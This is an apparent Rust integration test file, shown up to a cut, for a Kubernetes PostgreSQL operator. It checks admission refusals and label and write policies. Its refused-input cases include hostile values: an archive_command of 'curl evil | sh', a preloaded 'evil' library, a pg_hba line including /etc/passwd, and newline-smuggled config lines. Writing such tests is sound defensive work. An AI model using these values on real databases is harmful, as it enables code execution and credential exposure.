//! Bad input is refused by the API server at admission, with a message that tells a
//! person what to fix. Each case is a create, or an update of a valid object, sent to
//! the real API server; the test checks it is refused and what the refusal says. Pods
//! with Castellan's labels are refused unless the operator makes them.

mod support;

use kube::Client;
use kube::api::{Api, ApiResource, DynamicObject, Patch, PatchParams, PostParams};
use serde_json::{Value, json};

use std::time::{Duration, Instant};

use support::manifests::apply_identity;
use support::{TestNamespace, client, eventually, kubectl, kubectl_ok};

enum Kind {
    DatabaseCluster,
    StoragePool,
    BlockDevice,
    Backup,
    BackupSchedule,
}

impl Kind {
    fn resource(&self) -> (ApiResource, bool) {
        use castellan_crds::*;
        match self {
            Kind::DatabaseCluster => (ApiResource::erase::<DatabaseCluster>(&()), true),
            Kind::StoragePool => (ApiResource::erase::<StoragePool>(&()), false),
            Kind::BlockDevice => (ApiResource::erase::<BlockDevice>(&()), false),
            Kind::Backup => (ApiResource::erase::<Backup>(&()), true),
            Kind::BackupSchedule => (ApiResource::erase::<BackupSchedule>(&()), true),
        }
    }

    /// A valid spec, which each case breaks in one way.
    fn valid_spec(&self) -> Value {
        match self {
            Kind::DatabaseCluster => json!({
                "engine": "postgresql", "version": "16", "replicas": 3,
                "storage": { "size": "1Gi", "storageClassName": "fast" },
                "replication": { "mode": "sync", "syncReplicas": 1 },
                "bootstrap": { "initdb": { "database": "app", "owner": "app" } },
                "parameters": { "work_mem": "8MB", "auto_explain.log_min_duration": "1s",
                                "search_path": "\"$user\", public", "archive_timeout": "60s" },
                "backup": {
                    "endpoint": "https://s3.example.com", "bucket": "backups",
                    "credentials": { "secretName": "s3" },
                    "endpointCA": { "secretName": "s3-ca" },
                    "compression": "none",
                    "retention": { "keepLast": 3, "maxAge": "30d" }
                }
            }),
            Kind::StoragePool => json!({
                "devices": { "pathPattern": "^/dev/loop", "minSize": "1Gi",
                             "nodes": [ { "name": "node-1", "paths": ["/dev/loop1"] } ] },
                "layout": "raid1",
                "storageClass": { "name": "pool-class", "reclaimPolicy": "Delete" }
            }),
            Kind::BlockDevice => json!({
                "nodeName": "node-1", "path": "/dev/loop1", "sizeBytes": 1073741824,
                "identity": "fsuuid:0b7c1f4e-3a43-4a4e-9b0e-0c4f5d1f7a21"
            }),
            Kind::Backup => json!({ "cluster": "orders" }),
            Kind::BackupSchedule => json!({
                "cluster": "orders", "schedule": "0 3 * * *", "retention": { "keepLast": 7 }
            }),
        }
    }
}

enum Change {
    /// Create an object whose spec is the valid one with this merge patch applied.
    Create(Value),
    /// Create with this object name instead of the default one.
    CreateNamed(String),
    /// Create the valid object, then apply this merge patch to it.
    Update(Value),
}

struct Case {
    what: &'static str,
    kind: Kind,
    change: Change,
    /// Text the refusal must contain.
    message: &'static str,
}

fn case(what: &'static str, kind: Kind, change: Change, message: &'static str) -> Case {
    Case {
        what,
        kind,
        change,
        message,
    }
}

fn cases() -> Vec<Case> {
    use Change::*;
    use Kind::*;
    vec![
        case(
            "zero replicas",
            DatabaseCluster,
            Create(json!({"replicas": 0})),
            "should be greater than or equal to 1",
        ),
        case(
            "ten replicas",
            DatabaseCluster,
            Create(json!({"replicas": 10})),
            "should be less than or equal to 9",
        ),
        case(
            "replicas not a number",
            DatabaseCluster,
            Create(json!({"replicas": "three"})),
            "must be of type integer",
        ),
        case(
            "unknown engine",
            DatabaseCluster,
            Create(json!({"engine": "mysql"})),
            "supported values: \"postgresql\", \"mariadb\"",
        ),
        case(
            "engine reserved for later",
            DatabaseCluster,
            Create(json!({"engine": "mariadb"})),
            "engine 'mariadb' is planned but not supported",
        ),
        case(
            "unsupported version",
            DatabaseCluster,
            Create(json!({"version": "14"})),
            "unsupported PostgreSQL version \"14\": supported major versions are 15, 16, 17 and 18",
        ),
        case(
            "minor version instead of major",
            DatabaseCluster,
            Create(json!({"version": "16.4"})),
            "unsupported PostgreSQL version \"16.4\"",
        ),
        case(
            "missing version",
            DatabaseCluster,
            Create(json!({"version": null})),
            "spec.version: Required value",
        ),
        case(
            "missing storage",
            DatabaseCluster,
            Create(json!({"storage": null})),
            "spec.storage: Required value",
        ),
        case(
            "zero size",
            DatabaseCluster,
            Create(json!({"storage": {"size": "0"}})),
            "storage.size must be greater than zero",
        ),
        case(
            "negative size",
            DatabaseCluster,
            Create(json!({"storage": {"size": "-1Gi"}})),
            "storage.size must be greater than zero",
        ),
        case(
            "malformed size",
            DatabaseCluster,
            Create(json!({"storage": {"size": "ten gigs"}})),
            "storage.size must be a Kubernetes quantity",
        ),
        case(
            "bootstrap with both methods",
            DatabaseCluster,
            Create(json!({"bootstrap": {"recovery": {"backup": "b1"}}})),
            "bootstrap must hold exactly one of initdb or recovery",
        ),
        case(
            "bootstrap with neither method",
            DatabaseCluster,
            Create(json!({"bootstrap": {"initdb": null}})),
            "bootstrap must hold exactly one of initdb or recovery",
        ),
        case(
            "sync without syncReplicas",
            DatabaseCluster,
            Create(json!({"replication": {"syncReplicas": null}})),
            "syncReplicas is required and must be fewer than replicas",
        ),
        case(
            "sync quorum as large as the cluster",
            DatabaseCluster,
            Create(json!({"replication": {"syncReplicas": 3}})),
            "syncReplicas is required and must be fewer than replicas",
        ),
        case(
            "sync on a single instance",
            DatabaseCluster,
            Create(json!({"replicas": 1})),
            "syncReplicas is required and must be fewer than replicas",
        ),
        case(
            "syncReplicas with async",
            DatabaseCluster,
            Create(json!({"replication": {"mode": "async"}})),
            "syncReplicas only applies with replication.mode sync",
        ),
        case(
            "zero syncReplicas",
            DatabaseCluster,
            Create(json!({"replication": {"syncReplicas": 0}})),
            "replication.syncReplicas must be at least 1",
        ),
        case(
            "unknown replication mode",
            DatabaseCluster,
            Create(json!({"replication": {"mode": "semi"}})),
            "supported values: \"async\", \"sync\"",
        ),
        case(
            "owned parameter",
            DatabaseCluster,
            Create(json!({"parameters": {"port": "5433"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "owned parameter in capitals",
            DatabaseCluster,
            Create(json!({"parameters": {"Listen_Addresses": "*"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "owned parameter behind a leading space",
            DatabaseCluster,
            Create(json!({"parameters": {" archive_command": "curl evil | sh"}})),
            "parameter names must be PostgreSQL setting names",
        ),
        case(
            "a line break in a parameter name",
            DatabaseCluster,
            Create(json!({"parameters": {"work_mem = '1MB'\narchive_command": "sh"}})),
            "parameter names must be PostgreSQL setting names",
        ),
        case(
            "a line break in a parameter value",
            DatabaseCluster,
            Create(json!({"parameters": {"search_path": "public'\nwork_mem = '1"}})),
            "spec.parameters[search_path]: Invalid value: \"public'\\nwork_mem = '1\": parameter values cannot hold line breaks or NUL characters",
        ),
        case(
            "archive_library (archive_timeout is the one archive_ setting a user may set)",
            DatabaseCluster,
            Create(json!({"parameters": {"archive_library": "evil", "archive_timeout": "60s"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "recovery_end_command",
            DatabaseCluster,
            Create(json!({"parameters": {"recovery_end_command": "sh"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "preloaded code",
            DatabaseCluster,
            Create(json!({"parameters": {"shared_preload_libraries": "evil", "work_mem": "8MB"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "an included file",
            DatabaseCluster,
            Create(json!({"parameters": {"include_dir": "/tmp"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "a recovery target",
            DatabaseCluster,
            Create(json!({"parameters": {"Recovery_Target_Xid": "1"}})),
            "parameters cannot set what Castellan manages",
        ),
        case(
            "parameter value not a string",
            DatabaseCluster,
            Create(json!({"parameters": {"max_connections": 200}})),
            "must be of type string",
        ),
        case(
            "recovery target not a timestamp",
            DatabaseCluster,
            Create(
                json!({"bootstrap": {"initdb": null, "recovery": {"backup": "b1", "targetTime": "yesterday"}}}),
            ),
            "targetTime must be an RFC 3339 timestamp",
        ),
        case(
            "recovery target without a zone",
            DatabaseCluster,
            Create(
                json!({"bootstrap": {"initdb": null, "recovery": {"backup": "b1", "targetTime": "2026-11-30 12:00:00"}}}),
            ),
            "targetTime must be an RFC 3339 timestamp",
        ),
        case(
            "name too long for derived names",
            DatabaseCluster,
            CreateNamed("a".repeat(51)),
            "metadata.name must be at most 50 characters",
        ),
        case(
            "name not a DNS label",
            DatabaseCluster,
            CreateNamed("db.orders".into()),
            "metadata.name must start with a lowercase letter",
        ),
        case(
            "endpoint without scheme",
            DatabaseCluster,
            Create(json!({"backup": {"endpoint": "s3.example.com"}})),
            "backup.endpoint must be an http:// or https:// URL",
        ),
        case(
            "bad bucket name",
            DatabaseCluster,
            Create(json!({"backup": {"bucket": "My_Bucket"}})),
            "backup.bucket must be a valid S3 bucket name",
        ),
        case(
            "unknown compression",
            DatabaseCluster,
            Create(json!({"backup": {"compression": "gzip"}})),
            "supported values: \"zstd\", \"none\"",
        ),
        case(
            "retention keepLast zero",
            DatabaseCluster,
            Create(json!({"backup": {"retention": {"keepLast": 0}}})),
            "retention.keepLast must be at least 1",
        ),
        case(
            "retention maxAge in words",
            DatabaseCluster,
            Create(json!({"backup": {"retention": {"maxAge": "30 days"}}})),
            "retention.maxAge must be a whole number of hours, days or weeks",
        ),
        case(
            "owner is the superuser",
            DatabaseCluster,
            Create(json!({"bootstrap": {"initdb": {"owner": "postgres"}}})),
            "the superuser 'postgres'",
        ),
        case(
            "owner is the replication role",
            DatabaseCluster,
            Create(json!({"bootstrap": {"initdb": {"owner": "streaming_replica"}}})),
            "the replication role 'streaming_replica'",
        ),
        case(
            "pg_hba line that trusts",
            DatabaseCluster,
            Create(json!({"pgHba": ["host all all 0.0.0.0/0 trust"]})),
            "trust, password, local lines, includes and comments are refused",
        ),
        case(
            "pg_hba line with a line break",
            DatabaseCluster,
            Create(
                json!({"pgHba": ["host all all 0.0.0.0/0 reject\nhost all all 0.0.0.0/0 trust"]}),
            ),
            "trust, password, local lines, includes and comments are refused",
        ),
        case(
            "pg_hba line including a file",
            DatabaseCluster,
            Create(json!({"pgHba": ["include /etc/passwd"]})),
            "trust, password, local lines, includes and comments are refused",
        ),
        case(
            "pg_hba address without a mask",
            DatabaseCluster,
            Create(json!({"pgHba": ["host all all 10.0.0.1 scram-sha-256"]})),
            "an address in CIDR form",
        ),
        case(
            "pg_hba IPv6 range that is none",
            DatabaseCluster,
            Create(json!({"pgHba": ["hostssl all all fd00:::1::/8 scram-sha-256"]})),
            "not a valid IPv6 range",
        ),
        case(
            "pg_hba line for replication",
            DatabaseCluster,
            Create(json!({"pgHba": ["hostssl replication all 0.0.0.0/0 scram-sha-256"]})),
            "cannot name the replication database",
        ),
        case(
            "pg_hba line for the superuser",
            DatabaseCluster,
            Create(json!({"pgHba": ["hostssl all postgres 10.0.0.0/8 scram-sha-256"]})),
            "the superuser's network login is spec.enableSuperuserAccess",
        ),
        case(
            "superuser access not a boolean",
            DatabaseCluster,
            Create(json!({"enableSuperuserAccess": "yes"})),
            "must be of type boolean",
        ),
        case(
            "engine changed",
            DatabaseCluster,
            Update(json!({"engine": "mariadb"})),
            "engine is immutable",
        ),
        case(
            "version lowered",
            DatabaseCluster,
            Update(json!({"version": "15"})),
            "version cannot be lowered from 16 to 15",
        ),
        case(
            "storage shrunk",
            DatabaseCluster,
            Update(json!({"storage": {"size": "512Mi"}})),
            "storage.size cannot shrink from 1Gi to 512Mi",
        ),
        case(
            "storage class changed",
            DatabaseCluster,
            Update(json!({"storage": {"storageClassName": "slow"}})),
            "storage.storageClassName cannot be changed once set",
        ),
        case(
            "storage class removed",
            DatabaseCluster,
            Update(json!({"storage": {"storageClassName": null}})),
            "storage.storageClassName cannot be changed once set",
        ),
        case(
            "bootstrap changed",
            DatabaseCluster,
            Update(json!({"bootstrap": {"initdb": {"database": "other"}}})),
            "bootstrap cannot be changed after the cluster is created",
        ),
        case(
            "unknown layout",
            StoragePool,
            Create(json!({"layout": "raid5"})),
            "supported values: \"single\", \"raid1\", \"raid10\"",
        ),
        case(
            "missing storage class",
            StoragePool,
            Create(json!({"storageClass": null})),
            "spec.storageClass: Required value",
        ),
        case(
            "unknown reclaim policy",
            StoragePool,
            Create(json!({"storageClass": {"reclaimPolicy": "Recycle"}})),
            "supported values: \"Delete\", \"Retain\"",
        ),
        case(
            "zero minimum disk size",
            StoragePool,
            Create(json!({"devices": {"minSize": "0"}})),
            "devices.minSize must be greater than zero",
        ),
        case(
            "device path outside /dev",
            StoragePool,
            Create(json!({"devices": {"nodes": [{"name": "node-1", "paths": ["sdb"]}]}})),
            "paths must be device paths under /dev/",
        ),
        case(
            "allowWipe on every disk of every node",
            StoragePool,
            Create(json!({"devices": {"pathPattern": null, "nodes": null, "allowWipe": true}})),
            "devices.allowWipe needs devices.pathPattern or devices.nodes",
        ),
        case(
            // An empty list would narrow nothing on that node, yet count as a filter
            // for allowWipe.
            "allowWipe with a node entry that lists no paths",
            StoragePool,
            Create(
                json!({"devices": {"pathPattern": null, "nodes": [{"name": "node-1", "paths": []}], "allowWipe": true}}),
            ),
            "should have at least 1 items",
        ),
        case(
            "node listed twice",
            StoragePool,
            Create(
                json!({"devices": {"nodes": [{"name": "node-1", "paths": ["/dev/sdb"]}, {"name": "node-1", "paths": ["/dev/sdc"]}]}}),
            ),
            "Duplicate value",
        ),
        case(
            "storage class name not DNS",
            StoragePool,
            Create(json!({"storageClass": {"name": "Fast_Disks"}})),
            "storageClass.name must be a DNS subdomain",
        ),
        case(
            "layout changed",
            StoragePool,
            Update(json!({"layout": "single"})),
            "layout cannot be changed after the pool is created",
        ),
        case(
            "pool's storage class renamed",
            StoragePool,
            Update(json!({"storageClass": {"name": "other-class"}})),
            "storageClass.name cannot be changed",
        ),
        case(
            "default class not a boolean",
            StoragePool,
            Create(json!({"storageClass": {"default": "yes"}})),
            "spec.storageClass.default: Invalid value: \"string\": spec.storageClass.default in body must be of type boolean",
        ),
        case(
            "reclaim policy changed",
            StoragePool,
            Update(json!({"storageClass": {"reclaimPolicy": "Retain"}})),
            "storageClass.reclaimPolicy cannot be changed",
        ),
        case(
            "disk moved to another node",
            BlockDevice,
            Update(json!({"nodeName": "node-2"})),
            "nodeName is immutable",
        ),
        case(
            "negative disk size",
            BlockDevice,
            Create(json!({"sizeBytes": -1})),
            "should be greater than or equal to 0",
        ),
        case(
            "backup without cluster",
            Backup,
            Create(json!({"cluster": null})),
            "spec.cluster: Required value",
        ),
        case(
            "backup spec changed",
            Backup,
            Update(json!({"cluster": "other"})),
            "a Backup's spec cannot be changed after it is created",
        ),
        case(
            "unknown backup method",
            Backup,
            Create(json!({"method": "snapshot"})),
            "supported values: \"objectStore\"",
        ),
        case(
            "schedule without cron",
            BackupSchedule,
            Create(json!({"schedule": null})),
            "spec.schedule: Required value",
        ),
        case(
            "schedule keeping nothing",
            BackupSchedule,
            Create(json!({"retention": {"keepLast": 0}})),
            "retention.keepLast must be at least 1",
        ),
        case(
            "schedule name too long",
            BackupSchedule,
            CreateNamed("s".repeat(49)),
            "metadata.name must be at most 48 characters",
        ),
    ]
}

/// RFC 7386 merge: `null` removes a key, objects merge, anything else replaces.
fn merge(target: &mut Value, patch: &Value) {
    match (target, patch) {
        (Value::Object(target), Value::Object(patch)) => {
            for (key, value) in patch {
                if value.is_null() {
                    target.remove(key);
                } else {
                    merge(target.entry(key.clone()).or_insert(Value::Null), value);
                }
            }
        }
        (target, patch) => *target = patch.clone(),
    }
}

fn object(resource: &ApiResource, name: &str, spec: Value) -> DynamicObject {
    serde_json::from_value(json!({
        "apiVersion": resource.api_version,
        "kind": resource.kind,
        "metadata": { "name": name },
        "spec": spec,
    }))
    .expect("a well-formed object")
}

/// Runs one case; returns the refusal's message, or a description of what went wrong.
async fn refusal(
    client: &Client,
    namespace: &str,
    index: usize,
    case: &Case,
) -> Result<String, String> {
    let (resource, namespaced) = case.kind.resource();
    let api: Api<DynamicObject> = if namespaced {
        Api::namespaced_with(client.clone(), namespace, &resource)
    } else {
        Api::all_with(client.clone(), &resource)
    };
    let name = format!("case-{index}-{}", std::process::id());
    let spec = case.kind.valid_spec();
    let outcome = match &case.change {
        Change::Create(patch) => {
            let mut spec = spec;
            merge(&mut spec, patch);
            api.create(&PostParams::default(), &object(&resource, &name, spec))
                .await
        }
        Change::CreateNamed(other) => {
            api.create(&PostParams::default(), &object(&resource, other, spec))
                .await
        }
        Change::Update(patch) => {
            api.create(&PostParams::default(), &object(&resource, &name, spec))
                .await
                .map_err(|e| format!("creating the valid object to update: {e}"))?;
            let outcome = api
                .patch(
                    &name,
                    &PatchParams::default(),
                    &Patch::Merge(json!({ "spec": patch })),
                )
                .await;
            let _ = api.delete(&name, &Default::default()).await;
            outcome
        }
    };
    match outcome {
        Ok(accepted) => {
            let accepted_name = accepted.metadata.name.clone().unwrap_or_default();
            let _ = api.delete(&accepted_name, &Default::default()).await;
            Err(format!(
                "was accepted: {}",
                serde_json::to_string(&accepted.data).unwrap_or_default()
            ))
        }
        // 422 Invalid for schema and CEL rules; 400 BadRequest for strict field
        // validation (unknown fields).
        Err(kube::Error::Api(status)) if status.code == 422 || status.code == 400 => {
            Ok(status.message)
        }
        Err(other) => Err(format!("failed in another way: {other}")),
    }
}

#[tokio::test]
async fn bad_input_is_refused_with_a_readable_message() {
    let client = client().await;
    let namespace = TestNamespace::create(&client, "admission").await;
    let cases = cases();
    assert!(cases.len() >= 25, "the issue asks for at least 25 cases");

    let mut failures = Vec::new();
    for (index, case) in cases.iter().enumerate() {
        match refusal(&client, &namespace.name, index, case).await {
            Ok(message) if message.contains(case.message) => {}
            Ok(message) => failures.push(format!(
                "{}: refused, but the message lacks {:?}: {message}",
                case.what, case.message
            )),
            Err(problem) => failures.push(format!("{}: {problem}", case.what)),
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// The valid objects the cases start from are accepted, so every refusal above is
/// caused by the one change each case makes.
#[tokio::test]
async fn the_valid_objects_are_accepted() {
    let client = client().await;
    let namespace = TestNamespace::create(&client, "admission-valid").await;
    for kind in [
        Kind::DatabaseCluster,
        Kind::StoragePool,
        Kind::BlockDevice,
        Kind::Backup,
        Kind::BackupSchedule,
    ] {
        let (resource, namespaced) = kind.resource();
        let api: Api<DynamicObject> = if namespaced {
            Api::namespaced_with(client.clone(), &namespace.name, &resource)
        } else {
            Api::all_with(client.clone(), &resource)
        };
        let name = format!("valid-{}", std::process::id());
        api.create(
            &PostParams::default(),
            &object(&resource, &name, kind.valid_spec()),
        )
        .await
        .unwrap_or_else(|e| panic!("the valid {} is accepted: {e}", resource.kind));
        // Growing and upgrading are allowed, unlike shrinking and downgrading.
        if let Kind::DatabaseCluster = kind {
            api.patch(
                &name,
                &PatchParams::default(),
                &Patch::Merge(
                    json!({"spec": {"version": "17", "replicas": 5, "storage": {"size": "2Gi"}}}),
                ),
            )
            .await
            .expect("raising version, replicas and size is accepted");
            // Back to the version the data is in: an upgrade called off.
            api.patch_status(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"status": {"version": "16"}})),
            )
            .await
            .expect("writing the data's version");
            api.patch(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"spec": {"version": "16"}})),
            )
            .await
            .expect("going back to the data's version is accepted");
            api.patch(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"spec": {"version": "17"}})),
            )
            .await
            .expect("raising the version again");
            api.patch_status(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"status": {"version": "17"}})),
            )
            .await
            .expect("writing the data's version");
            // Lower than the data: only back to the version a major upgrade came from
            // while its data is kept (status.upgrade, written by the operator)…
            let upgraded = |previous: &str| {
                json!({"status": {"upgrade": {
                    "from": "16", "to": "17", "phase": "Succeeded", "instance": "x-1",
                    "previous": previous,
                }}})
            };
            let lower = json!({"spec": {"version": "16"}});
            api.patch_status(
                &name,
                &PatchParams::default(),
                &Patch::Merge(upgraded("Removed")),
            )
            .await
            .expect("writing an upgrade's status");
            let refused = api
                .patch(&name, &PatchParams::default(), &Patch::Merge(&lower))
                .await
                .expect_err("no rollback once the previous data is removed");
            assert!(
                refused
                    .to_string()
                    .contains("version cannot be lowered from 17 to 16"),
                "{refused}"
            );
            api.patch_status(
                &name,
                &PatchParams::default(),
                &Patch::Merge(upgraded("Kept")),
            )
            .await
            .expect("writing an upgrade's status");
            api.patch(&name, &PatchParams::default(), &Patch::Merge(&lower))
                .await
                .expect("a rollback to the kept version is accepted");
            // … and never below it.
            let refused = api
                .patch(
                    &name,
                    &PatchParams::default(),
                    &Patch::Merge(json!({"spec": {"version": "15"}})),
                )
                .await
                .expect_err("lowering past the upgrade's from is refused");
            assert!(
                refused
                    .to_string()
                    .contains("version cannot be lowered from 16 to 15"),
                "{refused}"
            );
            // Network access changes on a running cluster, with lines of every form.
            api.patch(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"spec": {
                    "enableSuperuserAccess": true,
                    "pgHba": [
                        "hostssl shop clerk 10.0.0.0/8 scram-sha-256 clientcert=verify-full",
                        "hostssl all +auditors,reporter fd00::/8 cert clientname=DN",
                        "host all all 192.168.1.0 255.255.255.0 reject",
                        "hostnossl shop clerk .example.com md5",
                    ],
                }})),
            )
            .await
            .expect("superuser access and valid pgHba lines are accepted");
        }
        // Unlike its class's name and reclaim policy, whether a pool's class is the
        // cluster's default may change (the agent re-annotates the StorageClass).
        if let Kind::StoragePool = kind {
            api.patch(
                &name,
                &PatchParams::default(),
                &Patch::Merge(json!({"spec": {"storageClass": {"default": true}}})),
            )
            .await
            .expect("making the pool's class the default is accepted");
        }
        api.delete(&name, &Default::default())
            .await
            .expect("deleting the valid object");
    }
}

/// A pod carrying Castellan's labels would receive a cluster's connections: only the
/// operator (or an administrator) may create one or put the labels on one
/// (`deploy/operator/policies.yaml`). Shown with real requests from a service account
/// that may create and change pods in its namespace.
#[tokio::test]
async fn only_the_operator_puts_castellan_labels_on_pods() {
    let client = client().await;
    let namespace = TestNamespace::create(&client, "pod-labels").await;
    let ns = namespace.name.as_str();
    let policies = support::repo().join("deploy/operator/policies.yaml");
    kubectl_ok(&["apply", "-f", &policies.to_string_lossy()]);
    kubectl_ok(&["create", "serviceaccount", "intruder", "-n", ns]);
    kubectl_ok(&[
        "create",
        "role",
        "pods",
        "--verb=create,get,patch,update,delete",
        "--resource=pods",
        "-n",
        ns,
    ]);
    kubectl_ok(&[
        "create",
        "rolebinding",
        "intruder",
        "--role=pods",
        &format!("--serviceaccount={ns}:intruder"),
        "-n",
        ns,
    ]);
    let intruder = format!("--as=system:serviceaccount:{ns}:intruder");
    // Bound to a node that does not exist: nothing runs them.
    let run = |name: &str, labels: &str, who: Option<&str>| {
        let labels = format!("--labels={labels}");
        let mut args = vec![
            "run",
            name,
            "-n",
            ns,
            "--image=example.invalid/none",
            "--restart=Never",
            labels.as_str(),
            r#"--overrides={"spec":{"nodeName":"no-such-node"}}"#,
        ];
        args.extend(who);
        kubectl(&args)
    };
    let refusal = |output: std::process::Output| {
        (!output.status.success()).then(|| String::from_utf8_lossy(&output.stderr).into_owned())
    };

    // The policy is in force a moment after it is created.
    let deadline = Instant::now() + Duration::from_secs(30);
    let message = loop {
        match refusal(run(
            "fake-primary",
            "castellan.io/cluster=shop,castellan.io/role=primary",
            Some(&intruder),
        )) {
            // An earlier attempt, admitted before the policy was in force, is still
            // being deleted: that is no answer from the policy.
            Some(message) if message.contains("AlreadyExists") => {}
            // The namespace is new: its `default` service account, which every pod
            // gets, is made by the controller manager a moment later.
            Some(message) if message.contains("error looking up service account") => {}
            Some(message) => break message,
            None => {
                kubectl_ok(&["delete", "pod", "fake-primary", "-n", ns, "--wait=false"]);
            }
        }
        assert!(
            Instant::now() < deadline,
            "a pod with Castellan's labels from another account is refused within 30 s"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    assert!(
        message.contains("only the Castellan operator may set the labels")
            && message.contains("castellan.io/role"),
        "{message}"
    );

    // Its own pods, unlabelled, are none of the policy's business; labelling one is.
    assert_eq!(refusal(run("plain", "app=mine", Some(&intruder))), None);
    let labelled = refusal(kubectl(&[
        "label",
        "pod",
        "plain",
        "castellan.io/role=primary",
        "-n",
        ns,
        &intruder,
    ]))
    .expect("adding castellan.io/role to a pod is refused");
    assert!(labelled.contains("castellan.io/role"), "{labelled}");

    // A pod the operator (here an administrator) labelled may still be changed in other
    // ways, but not have its Castellan labels changed.
    assert_eq!(
        refusal(run(
            "member",
            "castellan.io/cluster=shop,castellan.io/role=replica",
            None
        )),
        None
    );
    assert_eq!(
        refusal(kubectl(&[
            "label",
            "pod",
            "member",
            "app=other",
            "-n",
            ns,
            &intruder
        ])),
        None
    );
    assert!(
        refusal(kubectl(&[
            "label",
            "pod",
            "member",
            "castellan.io/role=primary",
            "--overwrite",
            "-n",
            ns,
            &intruder,
        ]))
        .is_some(),
        "turning a replica's label into primary is refused"
    );
}

/// A kubeconfig for the local cluster that authenticates with `token` only (the
/// admin kubeconfig's client certificate would win over a token).
fn token_kubeconfig(name: &str, token: &str) -> std::path::PathBuf {
    let admin = std::fs::read_to_string(support::kubeconfig_path()).expect("the kubeconfig");
    let field = |key: &str| {
        admin
            .lines()
            .find_map(|line| line.trim().strip_prefix(key))
            .map(|value| value.trim().to_owned())
            .unwrap_or_else(|| panic!("{key} in the kubeconfig"))
    };
    let path = std::env::temp_dir().join(format!("{name}-{}.kubeconfig", std::process::id()));
    std::fs::write(
        &path,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {{server: \"{}\", \
             certificate-authority: \"{}\"}}\nusers:\n- name: u\n  user: {{token: \"{token}\"}}\n\
             contexts:\n- name: c\n  context: {{cluster: c, user: u}}\ncurrent-context: c\n",
            field("server:"),
            field("certificate-authority:")
        ),
    )
    .expect("writing a kubeconfig");
    path
}

/// `kubectl` as the holder of `kubeconfig`, with `input` as the manifest (`-f -`) when
/// given: `None` when the request went through, else the refusal.
fn refused_as(kubeconfig: &std::path::Path, args: &[&str], input: Option<&str>) -> Option<String> {
    use std::io::Write;
    let mut child = std::process::Command::new(support::kubectl_program())
        .arg("--kubeconfig")
        .arg(kubeconfig)
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("running kubectl");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin
        .write_all(input.unwrap_or_default().as_bytes())
        .expect("writing the manifest");
    drop(stdin);
    let output = child.wait_with_output().expect("kubectl");
    (!output.status.success()).then(|| String::from_utf8_lossy(&output.stderr).into_owned())
}

/// A merge patch of pool `pool`'s status as the holder of `kubeconfig` (a server-side
/// dry run), sent the way the agent sends it: `kubectl patch --subresource=status`
/// would read the status first, which the agent never does and its role does not
/// allow. `None` when it went through, else the refusal.
async fn patch_pool_status_as(
    kubeconfig: &std::path::Path,
    pool: &str,
    status: Value,
) -> Option<String> {
    let kubeconfig = kube::config::Kubeconfig::read_from(kubeconfig).expect("the kubeconfig");
    let config = kube::Config::from_custom_kubeconfig(
        kubeconfig,
        &kube::config::KubeConfigOptions::default(),
    )
    .await
    .expect("loading the kubeconfig");
    let pools: Api<castellan_crds::StoragePool> =
        Api::all(Client::try_from(config).expect("a client"));
    let params = PatchParams {
        dry_run: true,
        ..PatchParams::default()
    };
    pools
        .patch_status(pool, &params, &Patch::Merge(&status))
        .await
        .err()
        .map(|error| error.to_string())
}

fn block_device(node: &str) -> String {
    format!(
        "apiVersion: castellan.io/v1alpha1\nkind: BlockDevice\nmetadata: {{name: probe-{node}}}\n\
         spec: {{nodeName: {node}, path: /dev/sdz, sizeBytes: 1073741824, identity: probe-{node}}}\n"
    )
}

fn local_volume(name: &str, node: &str) -> String {
    format!(
        "apiVersion: v1\nkind: PersistentVolume\nmetadata: {{name: {name}}}\nspec:\n  \
         capacity: {{storage: 1Gi}}\n  accessModes: [ReadWriteOnce]\n  \
         storageClassName: policy-probe-none\n  local: {{path: /var/lib/castellan/pools/x}}\n  \
         nodeAffinity:\n    required:\n      nodeSelectorTerms:\n      - matchExpressions:\n        \
         - {{key: kubernetes.io/hostname, operator: In, values: [{node}]}}\n"
    )
}

/// Every node's agent holds a token that RBAC lets write any StoragePool, BlockDevice
/// and PersistentVolume: the agent's policies (`deploy/agent/policies.yaml`) hold it to
/// its own node's objects and to a pool's finalizers and its node's status entry, and
/// the operator's (`deploy/operator/policies.yaml`) hold the operator to the Secrets it
/// made. Shown with real requests: a token bound to the agent's pod on node-1 (as the
/// kubelet gets it), one bound to nothing, and the operator's service account; every
/// write but the fixtures' is a server-side dry run, which admission judges in full.
#[tokio::test]
async fn the_agent_and_the_operator_write_only_what_is_theirs() {
    use support::agent::{agent_up, dev_dir};
    let client = client().await;
    let namespace = TestNamespace::create(&client, "own-objects").await;
    let ns = namespace.name.as_str();
    agent_up(&dev_dir());
    let agent_pod = kubectl_ok(&[
        "get",
        "pods",
        "-n",
        "castellan-system",
        "-l",
        "app.kubernetes.io/name=castellan-agent",
        "--field-selector",
        "spec.nodeName=node-1",
        "-o",
        "jsonpath={.items[0].metadata.name} {.items[0].metadata.uid}",
    ]);
    let (pod, uid) = agent_pod
        .split_once(' ')
        .expect("the agent's pod on node-1");
    let bound = kubectl_ok(&[
        "create",
        "token",
        "castellan-agent",
        "-n",
        "castellan-system",
        "--bound-object-kind=Pod",
        &format!("--bound-object-name={pod}"),
        &format!("--bound-object-uid={uid}"),
    ]);
    let agent = token_kubeconfig("agent-node-1", bound.trim());
    let unbound = kubectl_ok(&[
        "create",
        "token",
        "castellan-agent",
        "-n",
        "castellan-system",
    ]);
    let stray = token_kubeconfig("agent-unbound", unbound.trim());
    let dry = ["--dry-run=server"];
    let create = |who: &std::path::Path, manifest: &str| {
